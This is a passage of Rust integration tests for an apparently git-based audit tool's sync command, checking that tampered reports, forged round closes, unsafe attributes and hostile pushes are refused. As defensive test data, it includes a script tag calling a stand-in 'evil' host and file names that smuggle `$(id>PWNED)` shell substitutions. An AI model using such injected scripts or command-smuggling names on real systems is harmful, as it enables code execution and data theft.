    acme.run(&["diff", "HEAD~2", "HEAD"]).success();
}

#[test]
fn a_remote_history_that_shares_no_commit_is_not_merged() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    acme.run(&["answer", "ACC-05", "--level", "1"]).success();
    // Bob rewrites the history: the same files, in one new root commit, pushed by force.
    sandbox.git("bob", &["checkout", "-q", "--orphan", "rewritten"]);
    sandbox.git("bob", &["commit", "-q", "-m", "rewritten"]);
    sandbox.git("bob", &["push", "-q", "-f", "origin", "rewritten:main"]);
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]).failure(2);
    assert!(out.stderr.contains("shares no commit"), "{out:?}");
    assert_eq!(head(&sandbox, "acme"), before);
    assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
}

#[test]
fn a_closed_round_s_report_rewritten_by_a_co_auditor_is_refused() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    acme.run(&["audit", "close", "2026-02"]).success();
    acme.run(&["sync"]).success();
    bob.run(&["sync"]).success();
    let html = fs::read_to_string(sandbox.path("bob/reports/2026-02/report.html")).unwrap();
    let hostile = html.replace("</body>", "<script>fetch('http://evil/')</script></body>");
    sandbox.commit_by_hand("bob", "reports/2026-02/report.html", &hostile, "touch-up");
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]).failure(1);
    assert!(
        out.stderr.contains("reports/2026-02/")
            && out.stderr.contains("change the report of round 2026-02"),
        "{out:?}"
    );
    assert_eq!(head(&sandbox, "acme"), before);
    let kept = fs::read_to_string(sandbox.path("acme/reports/2026-02/report.html")).unwrap();
    assert!(!kept.contains("evil"));

    // Restored by Bob, the next sync goes through.
    sandbox.git(
        "bob",
        &["checkout", "audit/2026-02", "--", "reports/2026-02"],
    );
    sandbox.git("bob", &["commit", "-q", "-m", "restored"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    acme.run(&["sync"]).success();
}

/// A file of Jeanne's not committed (or ignored) where Bob's commit puts one: on a
/// fast-forward and on a merge alike, the sync stops naming it, her file stays, and Bob's
/// stays in the history (a merge used to skip it and commit it as removed).
#[test]
fn a_file_of_this_clone_in_the_way_of_the_remote_s_survives_and_is_named() {
    for (path, merge) in [("notes/nessus.xml", false), ("evidence/cam.jpg", true)] {
        let sandbox = Sandbox::new();
        let (acme, _bob) = team(&sandbox);
        sandbox.commit_by_hand("bob", path, "Bob's\n", "Bob's file");
        sandbox.git("bob", &["push", "-q", "origin", "main"]);
        if merge {
            sandbox.write("acme/.git/info/exclude", &format!("{path}\n"));
            acme.run(&["answer", "ACC-02", "--level", "1"]).success();
        }
        sandbox.write(&format!("acme/{path}"), "Jeanne's\n");
        let before = head(&sandbox, "acme");
        let out = acme.run(&["sync"]).failure(2);
        assert!(
            out.stderr.contains(path) && out.stderr.contains("stands where"),
            "{out:?}"
        );
        assert_eq!(head(&sandbox, "acme"), before);
        let kept = fs::read_to_string(sandbox.path(&format!("acme/{path}"))).unwrap();
        assert_eq!(kept, "Jeanne's\n");
        let remote = sandbox.git("remote.git", &["ls-tree", "-r", "--name-only", "main"]);
        assert!(remote.contains(path), "Bob's file stays in the history");
    }
}

#[test]
fn names_one_file_system_would_write_as_one_are_refused() {
    for (first, second) in [
        ("reports/2026-02/report.html", "REPORTS/2026-02/report.html"),
        ("evidence/a.png", "evidence/A.png"),
    ] {
        let sandbox = Sandbox::new();
        let (acme, _bob) = team(&sandbox);
        sandbox.write(&format!("bob/{first}"), "one\n");
        sandbox.git("bob", &["add", "-f", first]);
        let blob = sandbox.git("bob", &["hash-object", "-w", first]);
        let info = format!("100644,{},{second}", blob.trim());
        sandbox.git("bob", &["update-index", "--add", "--cacheinfo", &info]);
        sandbox.git("bob", &["commit", "-q", "-m", "twice"]);
        sandbox.git("bob", &["push", "-q", "origin", "main"]);
        let before = head(&sandbox, "acme");
        let out = acme.run(&["sync"]).failure(2);
        assert!(
            out.stderr.contains("two entries of the same name"),
            "{out:?}"
        );
        assert_eq!(head(&sandbox, "acme"), before);
    }
}

#[test]
fn a_round_closed_in_a_history_the_sync_refuses_is_not_taken() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    // Bob closes a round on records that do not load here, and pushes both.
    bob.run(&["audit", "close", "forged"]).success();
    sandbox.write("bob/answers/ACC-03.yaml/x", "x\n");
    sandbox.git("bob", &["add", "-A"]);
    sandbox.git("bob", &["commit", "-q", "-m", "a folder"]);
    sandbox.git("bob", &["push", "-q", "origin", "main", "--tags"]);
    let out = acme.run(&["sync"]).failure(1);
    assert!(out.stderr.contains("nothing changed here"), "{out:?}");
    assert_eq!(sandbox.git("acme", &["tag", "-l"]).trim(), "", "{out:?}");
    assert_eq!(
        sandbox.git("acme", &["for-each-ref", "refs/vmsaudit"]),
        "",
        "nothing set aside is left"
    );
}

#[test]
fn a_merge_whose_union_holds_two_names_of_one_file_is_not_committed() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    sandbox.commit_by_hand("bob", "notes/photo.txt", "bob\n", "bob");
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    sandbox.commit_by_hand("acme", "notes/Photo.txt", "jeanne\n", "jeanne");
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]).failure(2);
    assert!(
        out.stderr.contains("two entries of the same name"),
        "{out:?}"
    );
    assert_eq!(head(&sandbox, "acme"), before);
    assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
}

#[test]
fn a_close_forged_by_its_message_alone_is_not_taken_and_a_pdf_beside_a_report_is_fine() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    // A commit whose message imitates a close, tagged, then reverted: on main, but no close.
    let text = fs::read_to_string(sandbox.path("bob/engagement.yaml")).unwrap();
    sandbox.commit_by_hand(
        "bob",
        "engagement.yaml",
        &format!("{text}# r9\n"),
        "r9: audit round closed (overall 4.0)",
    );
    sandbox.git("bob", &["tag", "audit/r9"]);
    sandbox.git("bob", &["revert", "--no-edit", "HEAD"]);
    sandbox.git("bob", &["push", "-q", "origin", "main", "audit/r9"]);
    let out = acme.run(&["sync"]).success();
    assert!(
        out.stderr.contains("tag audit/r9 of origin not taken"),
        "{out:?}"
    );
    acme.run(&["audit", "list"]).success();
    acme.run(&["report"]).success();

    // A real close, then the deliverable printed and committed beside it: synced.
    bob.run(&["sync"]).success();
    bob.run(&["audit", "close", "2026-02"]).success();
    sandbox.commit_by_hand("bob", "reports/2026-02/rapport.pdf", "%PDF\n", "the PDF");
    bob.run(&["sync"]).success();
    let out = acme.run(&["sync"]).success();
    assert!(out.stdout.contains("tag audit/2026-02 received"), "{out:?}");
}

#[test]
fn a_clone_without_a_git_identity_is_refused_rather_than_signed_with_another_name() {
    let sandbox = Sandbox::new();
    let acme = sandbox.init("acme").client("ACME").lang("fr").create();
    // Bob clones and forgets `git config user.name`; nothing global names him either.
    sandbox.git(".", &["clone", "-q", "acme", "bob"]);
    fs::set_permissions(sandbox.path("bob"), fs::Permissions::from_mode(0o700)).unwrap();
    let bob = sandbox.in_dir("bob");
    let said = bob.refused(
        &[
            "answer",
            "ACC-01",
            "--level",
            "0",
            "--note",
            "saisi par Bob",
        ],
        "qui fait ce travail\u{a0}? Ce clone n'a pas d'identité git",
    );
    let root = sandbox.path("bob").display().to_string();
    for part in [
        "il n'est pas signé du nom d'un autre auditeur",
        &format!("`git -C {root} config user.name \"Prénom Nom\"`"),
        &format!("`git -C {root} config user.email prenom.nom@exemple.fr`"),
        "VMSAUDIT_AUDITOR=",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
    assert!(!said.contains("Jeanne"), "{said}");
    bob.refused(
        &[
            "finding",
            "add",
            "--title",
            "x",
            "--domain",
            "NET",
            "--severity",
            "low",
            "--justification",
            "vu",
        ],
        "Ce clone n'a pas d'identité git",
    );
    // Reading needs no name.
    bob.run(&["status"]).success();
    bob.run(&["report"]).success();

    // Named by the environment, or once git knows them, their work is theirs.
    bob.by(crate::common::BOB)
        .run(&[
            "answer",
            "ACC-01",
            "--level",
            "0",
            "--note",
            "saisi par Bob",
        ])
        .success();
    let author = sandbox.git("bob", &["log", "-1", "--format=%an <%ae>"]);
    assert_eq!(author.trim(), crate::common::BOB);
    assert!(
        sandbox
            .read("bob/answers/ACC-01.yaml")
            .contains("Bob Durand")
    );
    sandbox.git("bob", &["config", "user.name", "Bob Durand"]);
    sandbox.git("bob", &["config", "user.email", "bd@example.org"]);
    bob.run(&["answer", "ACC-02", "--level", "1", "--note", "vu"])
        .success();
    let author = sandbox.git("bob", &["log", "-1", "--format=%an <%ae>"]);
    assert_eq!(author.trim(), crate::common::BOB);
    // The engagement made by `init` has its auditor as its identity, as the demo does.
    acme.run(&["answer", "ACC-03", "--level", "1", "--note", "vu"])
        .success();
    sandbox.run(&["demo", "--no-open", "demo"]).success();
}

/// The command a message prints for a person to paste: what stands after the backtick that
/// opens `before` and up to `after` (the quoted word may hold backticks of its own).
#[track_caller]
fn printed(text: &str, before: &str, after: &str) -> String {
    let start = text
        .find(before)
        .unwrap_or_else(|| panic!("no {before:?} in {text}"))
        + 1;
    let rest = &text[start..];
    let end = rest
        .find(after)
        .unwrap_or_else(|| panic!("no {after:?} after {before:?} in {text}"));
    rest[..end].to_owned()
}

/// `command` run as pasting it into a shell in the sandbox's folder `dir` runs it.
fn pasted(sandbox: &Sandbox, dir: &str, command: &str) -> std::process::Output {
    std::process::Command::new("sh")
        .arg("-c")
        .arg(command)
        .current_dir(sandbox.path(dir))
        .env("HOME", sandbox.path("."))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

/// The one word a shell reads from `quoted`.
fn read_by_sh(sandbox: &Sandbox, quoted: &str) -> String {
    let out = pasted(sandbox, ".", &format!("printf '%s\\n' {quoted}"));
    assert!(out.status.success(), "{quoted}: {out:?}");
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 1, "one word: {quoted} read as {lines:?}");
    lines[0].to_owned()
}

/// Bob's commit of `files`, pushed.
fn bob_pushes(sandbox: &Sandbox, files: &[(&str, &[u8])], message: &str) {
    for (path, bytes) in files {
        let path = sandbox.path(&format!("bob/{path}"));
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    sandbox.git("bob", &["add", "-A"]);
    sandbox.git("bob", &["commit", "-q", "-m", message]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
}

#[test]
fn a_co_auditor_s_evidence_path_in_the_advice_is_quoted_and_restores_that_file() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    let path = "evidence/ACC-02/x'$(id>PWNED)'`id>PWNED`; id>PWNED .png";
    let bytes: &[u8] = b"\x89PNG Bob's screenshot";
    let record = format!(
        "control: ACC-02\nlevel: 3\nobservations: ok\nevidence:\n- path: \"{path}\"\n  sha256: {}\nassessed_by: Bob Durand <bd@example.org>\nassessed_at: 2026-02-03T10:00:00Z\n",
        sha256_hex(bytes)
    );
    bob_pushes(
        &sandbox,
        &[(path, bytes), ("answers/ACC-02.yaml", record.as_bytes())],
        "screenshot of the accounts",
    );
    acme.run(&["sync"]).success();
    let attached = sandbox.path(&format!("acme/{path}"));
    fs::remove_file(&attached).unwrap();

    let out = acme.run(&["report", "--format", "md"]).failure(1);
    let restore = printed(&out.stderr, "`git checkout -- ", "` when the change");
    let log = printed(&out.stderr, "`git log -- ", "` names the commit");
    for command in [&restore, &log] {
        let word = command.rsplit_once(" -- ").unwrap().1;
        assert_eq!(read_by_sh(&sandbox, word), path, "{command}");
    }
    let logged = pasted(
        &sandbox,
        "acme",
        &log.replacen("git log ", "git log --format=%s ", 1),
    );
    assert!(logged.status.success(), "{log}: {logged:?}");
    assert_eq!(
        String::from_utf8_lossy(&logged.stdout),
        "screenshot of the accounts\n"
    );
    let restored = pasted(&sandbox, "acme", &restore);
    assert!(restored.status.success(), "{restore}: {restored:?}");
    assert!(!sandbox.path("acme/PWNED").exists(), "the advice ran `id`");
    assert_eq!(fs::read(&attached).unwrap(), bytes, "{restore}");
    acme.run(&["report", "--format", "md"]).success();
}

#[test]
fn a_co_auditor_s_record_name_in_the_advice_is_quoted_and_runs_nothing() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    let name = "answers/ACC-09$(id>PWNED)'`id>PWNED`'.yaml";
    let fault: &[u8] = b"control: ACC-09\nlevel: [\n";
    bob_pushes(&sandbox, &[(name, fault)], "a record that does not load");
    let out = acme.run(&["sync"]).failure(1);
    let restore = printed(&out.stderr, "`git checkout -- ", "` (if the fault");
    let log = printed(&out.stderr, "`git log -- ", "` then `git checkout COMMIT");
    for command in [&restore, &log] {
        let word = command.rsplit_once(" -- ").unwrap().1;
        assert_eq!(read_by_sh(&sandbox, word), name, "{command}");
        // The file is only on the remote's side: git finds nothing here, and runs nothing.
        pasted(&sandbox, "acme", command);
        assert!(!sandbox.path("acme/PWNED").exists(), "{command} ran `id`");
    }
    let remote_log = log.replacen("git log ", "git log --format=%s origin/main ", 1);
    let logged = pasted(&sandbox, "acme", &remote_log);
    assert_eq!(
        String::from_utf8_lossy(&logged.stdout),
        "a record that does not load\n",
        "{remote_log}"
    );

    // The same file in this clone: every load says it the same way.
    fs::create_dir_all(sandbox.path("acme/answers")).unwrap();
    fs::write(sandbox.path(&format!("acme/{name}")), fault).unwrap();
    let out = acme.run(&["status"]);
    let restore = printed(&out.stderr, "`git checkout -- ", "` (if the fault");
    assert_eq!(
        read_by_sh(&sandbox, restore.rsplit_once(" -- ").unwrap().1),
        name
    );
    pasted(&sandbox, "acme", &restore);
    assert!(!sandbox.path("acme/PWNED").exists(), "{restore} ran `id`");
}

/// Bob's commit of `answers/ACC-02.yaml` (signed with Jeanne's name, as anyone can write it)
/// and `count` evidence files, pushed.
fn push_bulk(sandbox: &Sandbox, count: usize) {
    for i in 0..count {
        sandbox.write(&format!("bob/evidence/ACC-02/f{i}.txt"), &format!("{i}\n"));
    }
    sandbox.write(
        "bob/answers/ACC-02.yaml",
        "control: ACC-02\nlevel: 4\nobservations: all good\nevidence: []\nassessed_by: Jeanne Martin <jm@example.org>\nassessed_at: 2026-02-03T10:00:00Z\n",
    );
    sandbox.git("bob", &["add", "-A"]);
    sandbox.git("bob", &["commit", "-q", "-m", "bulk"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
}

/// The files of Bob's push found in commits authored by Jeanne in `acme`.
fn bobs_files_in_jeannes_commits(sandbox: &Sandbox) -> Vec<String> {
    sandbox
        .git(
            "acme",
            &[
                "log",
                "--author=Jeanne",
                "--no-merges",
                "--format=",
                "--name-only",
            ],
        )
        .lines()
        .filter(|path| path.starts_with("evidence/ACC-02/") || *path == "answers/ACC-02.yaml")
        .map(str::to_owned)
        .collect()
}

#[test]
fn a_sync_killed_in_its_checkout_is_undone_not_committed_as_the_auditor_s() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    push_bulk(&sandbox, 3000);
    let mut sync = sandbox
        .command(&["-C", "acme", "sync"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let first = sandbox.path("acme/evidence/ACC-02");
    // Killed (SIGKILL: nothing of it runs) once the checkout has begun.
    loop {
        if sync.try_wait().unwrap().is_some() {
            break;
        }
        if fs::read_dir(&first).is_ok_and(|mut files| files.next().is_some()) {
            sync.kill().unwrap();
            break;
        }
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
    let status = sync.wait().unwrap();
    eprintln!("sync: {status}");
    let out = acme.run(&["answer", "ACC-03", "--level", "1"]).success();
    if !status.success() {
        crate::common::says(&out.stderr, &["a sync was interrupted", "vmsaudit sync"]);
    }
    assert_eq!(
        bobs_files_in_jeannes_commits(&sandbox),
        Vec::<String>::new()
    );
    assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
    acme.run(&["sync"]).success();
    assert!(sandbox.path("acme/evidence/ACC-02/f2999.txt").exists());
    assert!(
        sandbox
            .read("acme/answers/ACC-02.yaml")
            .contains("level: 4")
    );
    assert_eq!(
        bobs_files_in_jeannes_commits(&sandbox),
        Vec::<String>::new()
    );
    assert!(!sandbox.path("acme/.git/vmsaudit/sync-checkout").exists());
}

#[test]
fn what_a_killed_sync_s_checkout_left_is_undone_by_the_next_command() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    acme.run(&["answer", "ACC-05", "--level", "2"]).success();
    acme.run(&["sync"]).success();
    sandbox.git("bob", &["pull", "-q", "origin", "main"]);
    let removed = "answers/ACC-05.yaml";
    sandbox.git("bob", &["rm", "-q", removed]);
    bob.run(&["asset", "add", "CAM-013", "--kind", "camera"])
        .success();
    let assets = sandbox.read("acme/assets.yaml");
    push_bulk(&sandbox, 3);
    // What a sync killed half-way through its checkout leaves: its mark, the remote's
    // history fetched, some of its files written, one of the files it removes removed.
    sandbox.git("acme", &["fetch", "-q", "origin"]);
    let before = head(&sandbox, "acme");
    let target = sandbox.git("acme", &["rev-parse", "origin/main"]);
    sandbox.write(
        "acme/.git/vmsaudit/sync-checkout",
        &format!("{before}\n{}", target.trim()),
    );
    let theirs = sandbox.git("acme", &["show", "origin/main:answers/ACC-02.yaml"]);
    sandbox.write("acme/answers/ACC-02.yaml", &theirs);
    sandbox.write("acme/evidence/ACC-02/f0.txt", "0\n");
    fs::remove_file(sandbox.path(&format!("acme/{removed}"))).unwrap();
    sandbox.write("acme/assets.yaml", &sandbox.read("bob/assets.yaml"));
    // A file of Jeanne's, not committed (sync runs with such files): it stays.
    sandbox.write("acme/evidence/mine.txt", "Jeanne's\n");

    let out = acme.run(&["answer", "ACC-03", "--level", "1"]).success();
    crate::common::says(
        &out.stderr,
        &["a sync was interrupted", "undone", "`vmsaudit sync`"],
    );
    assert_eq!(
        bobs_files_in_jeannes_commits(&sandbox),
        Vec::<String>::new()
    );
    assert!(!sandbox.path("acme/answers/ACC-02.yaml").exists());
    assert!(!sandbox.path("acme/evidence/ACC-02").exists());
    assert!(sandbox.path(&format!("acme/{removed}")).exists());
    assert_eq!(sandbox.read("acme/assets.yaml"), assets);
    assert_eq!(sandbox.read("acme/evidence/mine.txt"), "Jeanne's\n");
    assert!(!sandbox.path("acme/.git/vmsaudit/sync-checkout").exists());
    // Evidence dropped in the folder is the auditor's: the recovery commits it, as ever.
    assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
    // Said once: the next command finds nothing to undo.
    let out = acme.run(&["status"]).success();
    assert!(!out.stderr.contains("interrupted"), "{}", out.stderr);
    acme.run(&["sync"]).success();
    assert!(sandbox.path("acme/evidence/ACC-02/f2.txt").exists());
    assert!(!sandbox.path(&format!("acme/{removed}")).exists());
    assert!(sandbox.read("acme/assets.yaml").contains("CAM-013"));
}

#[test]
fn a_committed_attribute_that_changes_what_a_checkout_writes_is_refused() {
    let cases = [
        // A record committed with CRLF, and git told to write it with LF: modified at once.
        (
            ".gitattributes",
            "*.yaml text eol=lf\n",
            ".gitattributes:1",
            "text",
            false,
        ),
        // Every text file written with CRLF: evidence no longer matches its hash.
        (
            ".gitattributes",
            "* text eol=crlf\n",
            ".gitattributes:1",
            "text",
            true,
        ),
        (
            "evidence/.gitattributes",
            "# converted\n*.csv eol=crlf\n",
            "evidence/.gitattributes:2",
            "eol=crlf",
            false,
        ),
        (
            ".gitattributes",
            "*.yaml filter=x\n",
            ".gitattributes:1",
            "filter=x",
            true,
        ),
    ];
    for (file, attributes, at, word, merge) in cases {
        let sandbox = Sandbox::new();
        let (acme, _bob) = team(&sandbox);
        sandbox.write(
            "bob/answers/ACC-02.yaml",
            "control: ACC-02\r\nlevel: 4\r\nobservations: all good\r\nevidence: []\r\nassessed_by: Bob Durand <bd@example.org>\r\nassessed_at: 2026-02-03T10:00:00Z\r\n",
        );
        sandbox.git("bob", &["add", "answers"]);
        sandbox.git("bob", &["commit", "-q", "-m", "crlf"]);
        sandbox.commit_by_hand("bob", file, attributes, "attributes");
        sandbox.git("bob", &["push", "-q", "origin", "main"]);
        if merge {
            acme.run(&["answer", "ACC-03", "--level", "1"]).success();
        }
        let before = head(&sandbox, "acme");
        let out = acme.run(&["sync"]);
        assert_eq!(out.code, Some(2), "{attributes}: {out:?}");
        crate::common::says(&out.stderr, &[at, word, "changes the bytes git writes"]);
        assert_eq!(head(&sandbox, "acme"), before);
        assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
        assert!(!sandbox.path("acme/answers/ACC-02.yaml").exists());
    }
}

#[test]
fn attributes_that_convert_nothing_are_taken_and_the_copy_stays_clean() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    sandbox.commit_by_hand(
        "bob",
        ".gitattributes",
        "*.pcap binary\n*.yaml -text diff\n*.csv !eol\n",
        "attributes",
    );
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    acme.run(&["sync"]).success();
    assert!(sandbox.path("acme/.gitattributes").exists());
    assert_eq!(sandbox.git("acme", &["status", "--porcelain"]), "");
}

#[test]
fn a_round_closed_and_rewritten_in_one_push_is_refused_with_its_tag() {
    for merge in [false, true] {
        let sandbox = Sandbox::new();
        let (acme, bob) = team(&sandbox);
        bob.run(&["answer", "ACC-02", "--level", "3"]).success();
        bob.run(&["audit", "close", "2026-02"]).success();
        let html = sandbox.read("bob/reports/2026-02/report.html");
        let hostile = html.replace("</body>", "<script>x</script></body>");
        sandbox.commit_by_hand("bob", "reports/2026-02/report.html", &hostile, "typo");
        sandbox.git("bob", &["push", "-q", "origin", "main", "--tags"]);
        if merge {
            acme.run(&["answer", "ACC-03", "--level", "1"]).success();
        }
        let before = head(&sandbox, "acme");
        let out = acme.run(&["sync"]).failure(1);
        crate::common::says(
            &out.stderr,
            &["reports/2026-02/", "change the report of round 2026-02"],
        );
        assert_eq!(head(&sandbox, "acme"), before);
        assert!(!sandbox.path("acme/reports/2026-02").exists());
        assert_eq!(sandbox.git("acme", &["tag", "--list", "audit/*"]), "");
    }
}

#[test]
fn a_close_pulled_without_its_tag_takes_the_remote_s_tag_without_a_warning() {
    let sandbox = Sandbox::new();
    let (acme, bob) = team(&sandbox);
    acme.run(&["audit", "close", "2026-02"]).success();
    acme.run(&["answer", "ACC-02", "--level", "1"]).success();
    acme.run(&["audit", "close", "2026-03"]).success();
    acme.run(&["sync"]).success();
    // HEAD is the close of 2026-03, its tag left behind.
    sandbox.git("bob", &["pull", "-q", "--no-tags", "origin", "main"]);
    let out = bob.run(&["sync"]).success();
    assert!(!out.stderr.contains("force"), "{}", out.stderr);
    assert!(!out.stderr.contains("closed both"), "{}", out.stderr);
    let theirs = sandbox.git("remote.git", &["rev-parse", "audit/2026-03"]);
    assert_eq!(sandbox.git("bob", &["rev-parse", "audit/2026-03"]), theirs);
    let tag = sandbox.git("bob", &["cat-file", "-p", "audit/2026-03"]);
    assert!(tag.contains("Previous round: 2026-02"), "{tag}");
    let again = bob.run(&["sync"]).success();
    assert!(!again.stderr.contains("closed both"), "{}", again.stderr);
}

#[test]
fn a_file_too_large_for_a_checkout_is_refused_before_anything_is_written() {
    let sandbox = Sandbox::new();
    let (acme, _bob) = team(&sandbox);
    // 513 MiB of zeros: half a megabyte in the pack, 513 MiB in the memory of a checkout.
    let script = "head -c 537919488 /dev/zero | git hash-object -w --stdin";
    let blob = std::process::Command::new("sh")
        .args(["-c", script])
        .current_dir(sandbox.path("bob"))
        .output()
        .unwrap();
    assert!(blob.status.success());
    let blob = String::from_utf8(blob.stdout).unwrap();
    let info = format!("100644,{},evidence/ACC-02/capture.pcap", blob.trim());
    sandbox.git("bob", &["update-index", "--add", "--cacheinfo", &info]);
    sandbox.git("bob", &["commit", "-q", "-m", "pcap"]);
    sandbox.git("bob", &["push", "-q", "origin", "main"]);
    let before = head(&sandbox, "acme");
    let out = acme.run(&["sync"]);
    assert_eq!(out.code, Some(2), "{out:?}");
    crate::common::says(
        &out.stderr,
        &["evidence/ACC-02/capture.pcap", "larger than 512 MiB"],
    );
    assert_eq!(head(&sandbox, "acme"), before);
    assert!(!sandbox.path("acme/evidence/ACC-02").exists());
    assert!(!sandbox.path("acme/.git/vmsaudit/sync-checkout").exists());
}
